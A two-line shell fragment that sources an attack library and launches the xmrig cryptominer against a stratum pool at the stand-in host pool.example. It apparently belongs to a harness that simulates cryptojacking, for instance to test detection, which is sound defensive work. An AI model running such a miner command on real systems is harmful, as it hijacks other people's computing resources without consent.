. "$ATTACKS/lib.sh"
as xmrig nothing -- -o stratum+tcp://pool.example:3333
